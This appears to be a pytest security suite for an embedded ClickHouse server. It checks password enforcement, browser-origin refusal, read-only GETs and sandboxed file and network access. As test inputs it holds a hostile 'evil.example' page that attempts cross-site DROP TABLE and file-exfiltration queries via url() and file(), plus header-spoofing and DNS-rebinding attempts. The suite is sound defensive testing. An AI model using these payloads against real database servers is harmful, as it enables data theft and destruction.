"""Nobody gets in without the password, no page in a browser at all, and nobody gets out of the data."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
import requests
from playwright.sync_api import Response, sync_playwright

from tallyhouse.settings import ROOT
from tests.services.embedded_clickhouse.conftest import LOGIN, PASSWORD, Recorder, Server
from tests.services.pipeline_info.conftest import chromium

MARK = "the-text-of-a-private-file"
CODE = "X-ClickHouse-Exception-Code"


@pytest.fixture(scope="module")
def private(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder that is none of the server's business."""
    folder = tmp_path_factory.mktemp("private")
    (folder / "secret").write_text(MARK + "\n")
    return folder


def test_without_a_password_it_does_not_start(tmp_path: Path) -> None:
    environment = {key: value for key, value in os.environ.items() if key != "CLICKHOUSE_PASSWORD"}
    for given in ({}, {"CLICKHOUSE_PASSWORD": ""}):
        done = subprocess.run(
            [sys.executable, "-m", "services.embedded_clickhouse", "--path", str(tmp_path / "data")],
            cwd=ROOT,
            env=environment | given,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode != 0
        assert "CLICKHOUSE_PASSWORD is not set" in done.stderr
        assert not (tmp_path / "data").exists()


@pytest.mark.parametrize("login", [None, ("default", ""), ("default", "x"), ("admin", PASSWORD)])
def test_without_the_right_login_nothing_is_answered(server: Server, login: tuple[str, str] | None) -> None:
    for answer in (server.ask("SELECT 1", auth=login), server.get("SELECT 1", auth=login)):
        assert (answer.status_code, answer.headers[CODE]) == (403, "516")


@pytest.mark.parametrize("header", ["Basic", "Basic !!!", "Basic /w==", "Bearer x", "Basic " + "x" * 5000])
def test_a_broken_login_is_a_wrong_one(server: Server, header: str) -> None:
    answer = server.ask("SELECT 1", auth=None, headers={"Authorization": header})
    assert (answer.status_code, answer.headers[CODE]) == (403, "516")


@pytest.mark.parametrize(
    "header",
    [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Referer": "http://evil.example/"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Mode": "no-cors"},
        {"Sec-Fetch-Dest": "image"},
        {"Host": "evil.example"},
        {"Host": "evil.example:8123"},
        {"Host": "127.0.0.1.evil.example"},
        {"Host": ""},
    ],
)
@pytest.mark.parametrize("path", ["", "ping"])
def test_a_page_in_a_browser_is_refused_whatever_it_knows(
    server: Server, header: dict[str, str], path: str
) -> None:
    url = server.url + path
    sent = [requests.get(url, params={"query": "SELECT 1"}, auth=LOGIN, headers=header, timeout=10)]
    if not path:
        sent.append(requests.post(url, data="SELECT 1", auth=LOGIN, headers=header, timeout=10))
    for answer in sent:
        assert answer.status_code in (400, 403), answer.text
        assert answer.text not in ("1\n", "Ok.\n")


def test_the_attack_of_a_page_on_another_host(
    server: Server, table: str, private: Path, elsewhere: Recorder
) -> None:
    """With an image, a form and a script, even with the password in the address."""
    evil = private / "evil.py"
    # Not even the password in the address helps a page.
    address = f"{server.url}?user=default&password={requests.utils.quote(PASSWORD)}&query="
    write = f"INSERT INTO FUNCTION file('{evil}','RawBLOB','a String') VALUES ('x')"
    send = (
        f"INSERT INTO FUNCTION url('{elsewhere.url}/sent', 'LineAsString', 'a String') "
        f"SELECT * FROM file('{private}/secret','LineAsString','a String')"
    )
    drop = f"DROP TABLE {table}"
    elsewhere.asked.clear()
    page_html = f"""<html><body>
      <img src="{address}{requests.utils.quote(drop)}">
      <img src="{server.url}?query={requests.utils.quote(drop)}">
      <script>
        for (const sql of [{drop!r}, {write!r}, {send!r}])
          fetch("{address}", {{method: "POST", mode: "no-cors", body: sql}});
      </script>
      <form method="post" enctype="text/plain" action="{address}{requests.utils.quote(drop)}">
        <button id="go">go</button></form>
    </body></html>"""
    seen: list[Response] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=chromium(),
            args=[
                "--no-sandbox",
                "--disable-background-networking",
                "--host-resolver-rules=MAP evil.example 127.0.0.1, "
                f"MAP rebound.example:80 127.0.0.1:{server.port}",
            ],
        )
        page = browser.new_page()
        page.on("response", lambda answer: seen.append(answer) if str(server.port) in answer.url else None)
        page.route(
            "http://evil.example/**", lambda route: route.fulfill(body=page_html, content_type="text/html")
        )
        page.goto("http://evil.example/")
        page.wait_for_load_state("networkidle")
        page.click("#go")
        page.wait_for_load_state("networkidle")
        # A name that now points here: the page and the server share an origin.
        rebound = page.goto("http://rebound.example/")
        browser.close()
    assert rebound is not None
    assert rebound.status == 403
    assert len(seen) >= 1
    assert {answer.status for answer in seen} == {403}
    assert server.ask(f"SELECT text FROM {table}").text == "here\n"
    assert not evil.exists()
    assert elsewhere.asked == []


@pytest.mark.parametrize(
    "statement",
    [
        "DROP TABLE {table}",
        "/**/drop/**/table {table}",
        "INSERT INTO {table} VALUES (2, 'x')",
        "INSERT INTO {table} SELECT 2, 'x'",
        "WITH x AS (SELECT 2 AS a) INSERT INTO {table} SELECT a, 'x' FROM x",
        "ALTER TABLE {table} DELETE WHERE 1",
        "DELETE FROM {table} WHERE 1",
        "TRUNCATE TABLE {table}",
        "RENAME TABLE {table} TO other",
        "CREATE DATABASE made_by_get",
        "DETACH TABLE {table}",
    ],
)
@pytest.mark.parametrize("params", [{}, {"session_id": "reads-only"}, {"readonly": "0"}])
def test_get_reads_only(server: Server, table: str, statement: str, params: dict[str, str]) -> None:
    answer = server.get(statement.format(table=table), params=params)
    assert answer.headers[CODE] == "164", answer.text
    assert server.ask(f"SELECT text FROM {table}").text == "here\n"
    assert "made_by_get" not in server.ask("SHOW DATABASES").text


@pytest.mark.parametrize(
    "params", [{"readonly": "1"}, {"readonly": "2"}, {"readonly": "1", "session_id": "r"}]
)
def test_readonly_is_honoured(server: Server, table: str, params: dict[str, str]) -> None:
    assert server.ask(f"SELECT text FROM {table}", params=params).text == "here\n"
    for statement in (f"DROP TABLE {table}", f"INSERT INTO {table} FORMAT CSV\n2,x\n", "SET readonly = 0"):
        answer = server.ask(statement, params=params)
        assert answer.headers.get(CODE) == "164", answer.text
    rows = requests.post(
        server.url,
        params=params | {"query": f"INSERT INTO {table} FORMAT CSV"},
        data="2,x\n",
        auth=LOGIN,
        timeout=10,
    )
    assert rows.headers[CODE] == "164"
    assert server.ask(f"SELECT text FROM {table}").text == "here\n"


def test_settings_of_a_readonly_request_hold(server: Server) -> None:
    query = "SELECT getSetting('readonly'), getSetting('max_threads')"
    params = {"max_threads": "1"}
    assert server.ask(query, params=params | {"readonly": "1"}).text == "1\t1\n"
    assert server.get(query, params=params).text == "2\t1\n"
    assert server.get(query, params=params | {"readonly": "1"}).text == "1\t1\n"


# Each reaches a file ({private}/...), a program or another server ({away}); a blank line between.
OUTWARD = Path(__file__).with_name("outward.txt").read_text().rstrip("\n").split("\n\n")


@pytest.mark.parametrize("statement", OUTWARD)
def test_nothing_outside_is_reached(
    server: Server, table: str, private: Path, lake: Recorder, elsewhere: Recorder, statement: str
) -> None:
    elsewhere.asked.clear()
    lake.asked.clear()
    sql = statement.format(
        private=private,
        away=elsewhere.url,
        away_port=elsewhere.port,
        lake=lake.url,
        lake_port=lake.port,
    )
    answer = server.ask(sql, params={"param_u": f"{elsewhere.url}/bucket/x"})
    assert MARK not in answer.text
    assert MARK not in server.ask(f"SELECT * FROM {table}").text
    # merge() is answered: from this server's own tables alone.
    assert not answer.ok or "merge(" in sql, answer.text
    assert sorted(path.name for path in private.iterdir()) == ["secret"]
    assert elsewhere.asked == []
    assert lake.asked == []
    assert server.ask("SELECT 1").text == "1\n"


@pytest.mark.parametrize(
    "setting",
    [
        *("format_schema", "format_template_row", "format_template_resultset", "output_format_schema"),
        *("input_format_record_errors_file_path", "format_avro_schema_registry_url", "dialect", "url_base"),
        *("max_memory_usage", "max_execution_time", "max_result_rows", "max_result_bytes"),
    ],
)
def test_settings_that_would_lift_a_bound_are_refused(server: Server, setting: str) -> None:
    value = "0" if setting.startswith("max_") else "kusto" if setting == "dialect" else "x"
    assert server.ask("SELECT 1", params={setting: value}).headers.get(CODE) == "452"
    assert server.ask(f"SET {setting} = '{value}'").headers.get(CODE) == "452"
    assert server.ask(f"SELECT 1 SETTINGS {setting} = '{value}'").headers.get(CODE) == "452"


def test_every_other_table_function_and_engine_is_denied_by_default(server: Server) -> None:
    """Of a later chDB as well: those that are offered are counted up, not those that are not."""
    open_functions = set()
    for name in server.ask("SELECT name FROM system.table_functions").text.split():
        answer = server.ask(f"SELECT * FROM {name}('x')")
        if answer.headers.get(CODE) != "497":
            open_functions.add(name)
    assert open_functions <= {
        *("numbers", "numbers_mt", "zeros", "zeros_mt", "generateSeries", "generate_series", "primes"),
        *("values", "SQLStandardValues", "null", "view", "viewExplain", "merge", "mergeTreeIndex", "s3"),
        *("mergeTreeProjection", "deltaLake"),
    }
    open_engines = set()
    for name in server.ask("SELECT name FROM system.table_engines").text.split():
        if (
            server.ask(f"CREATE TABLE engine_{name} (a UInt8) ENGINE = {name}('x')").headers.get(CODE)
            != "497"
        ):
            open_engines.add(name)
    local = {
        *("Memory", "Log", "TinyLog", "StripeLog", "Null", "Set", "Join", "Buffer", "Merge"),
        "GenerateRandom",
    }
    assert {name for name in open_engines if not name.endswith("MergeTree")} <= local | {
        "View",
        "MaterializedView",
    }
    assert not any(name.startswith(("Replicated", "Shared")) for name in open_engines)


def test_the_lake_is_reached(server: Server, lake: Recorder) -> None:
    lake.asked.clear()
    answer = server.ask(f"SELECT * FROM s3('{lake.url}/bucket/a/*.parquet', 'k', 's', 'Parquet')")
    assert "S3_ERROR" in answer.text
    assert lake.asked
    lake.asked.clear()
    assert not server.ask(f"SELECT * FROM deltaLake('{lake.url}/bucket/t', 'k', 's')").ok
    assert lake.asked


def test_the_secrets_of_other_services_are_not_in_the_process(server: Server) -> None:
    environment = Path(f"/proc/{server.process.pid}/environ").read_text()
    assert "of-another-service" not in environment
    assert "FERNET" not in environment


@pytest.mark.parametrize("name", ["default", "system", "information_schema", "INFORMATION_SCHEMA"])
@pytest.mark.parametrize("act", ["DETACH DATABASE", "DROP DATABASE", "DETACH DATABASE IF EXISTS"])
def test_what_the_engine_needs_stays(server: Server, table: str, act: str, name: str) -> None:
    assert server.ask(f"{act} {name}").headers.get(CODE) == "497"
    assert server.ask(f"SELECT count() FROM default.{table}").text == "1\n"
    assert server.ask("SELECT count() > 0 FROM system.tables").text == "1\n"


SHUT_IN = """
import sys
from pathlib import Path
from services.embedded_clickhouse.engine import HERE, Engine
from services.embedded_clickhouse.limits import Limits
from services.embedded_clickhouse.sandbox import shut_in
folder, secret, away, lake = Path(sys.argv[1]), *sys.argv[2:]
disk = f"SETTINGS disk = disk(type = web, endpoint = '{away}/b/')"
reads = [HERE, Path(sys.prefix), Path(sys.base_prefix)]
if not shut_in(reads=reads, writes=[folder], connects=[int(lake)]):
    sys.exit(77)
engine = Engine(folder, (f"http://127.0.0.1:{lake}",), Limits())
for statement in (
    f"SELECT file('{secret}')",
    f"SELECT 1 INTO OUTFILE '{secret}.made'",
    f"SELECT * FROM format(CSV, 'a String, b String DEFAULT file(\\\\'{secret}\\\\')', 'x')",
    f"CREATE TABLE t (a UInt8) ENGINE = MergeTree ORDER BY a {disk}",
    f"CREATE DATABASE d ENGINE = Atomic {disk}",
):
    try:
        print("ANSWERED", statement, engine._keeper.query(statement))
    except Exception as error:
        print("refused", error)
"""


def test_the_kernel_holds_the_engine_whatever_it_is_told(
    tmp_path: Path, private: Path, elsewhere: Recorder, lake: Recorder
) -> None:
    """Statements handed to the engine itself, past everything that reads them first."""
    elsewhere.asked.clear()
    data = tmp_path / "data"
    data.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", SHUT_IN, str(data), str(private / "secret"), elsewhere.url, str(lake.port)],
        cwd=ROOT,
        env=os.environ | {"PYTHONPATH": "."},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    if done.returncode == 77:
        pytest.skip("this kernel has no Landlock")
    assert done.stdout.count("refused") == 5, done.stdout + done.stderr
    assert "ANSWERED" not in done.stdout
    assert MARK not in done.stdout
    assert sorted(path.name for path in private.iterdir()) == ["secret"]
    assert elsewhere.asked == []


def test_its_data_is_for_its_account_alone(server: Server) -> None:
    assert server.ask("CREATE DATABASE IF NOT EXISTS private_data").ok
    folder = server.log.parent / "data/clickhouse"
    opened = [path for path in folder.rglob("*") if not path.is_symlink() and path.stat().st_mode & 0o077]
    assert opened == []
